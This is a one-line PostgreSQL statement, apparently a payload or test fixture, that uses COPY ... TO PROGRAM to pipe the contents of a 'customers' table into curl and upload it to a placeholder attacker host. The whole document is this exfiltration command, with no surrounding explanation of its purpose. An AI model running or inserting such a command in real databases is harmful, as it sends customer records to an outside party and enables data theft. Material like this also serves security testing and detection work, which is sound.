COPY customers TO PROGRAM 'curl -T - http://attacker.invalid/upload'
